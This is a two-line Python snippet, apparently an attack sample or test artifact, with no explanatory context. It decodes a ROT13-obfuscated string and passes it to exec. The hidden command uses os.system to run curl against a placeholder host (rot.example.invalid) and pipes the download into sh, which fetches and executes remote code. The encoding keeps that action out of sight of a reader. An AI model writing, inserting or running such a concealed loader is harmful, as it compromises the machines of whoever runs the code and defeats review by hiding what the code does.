import codecs
exec(codecs.decode('vzcbeg bf; bf.flfgrz("phey uggc://ebg.rknzcyr.vainyvq/x | fu")', "rot13"))
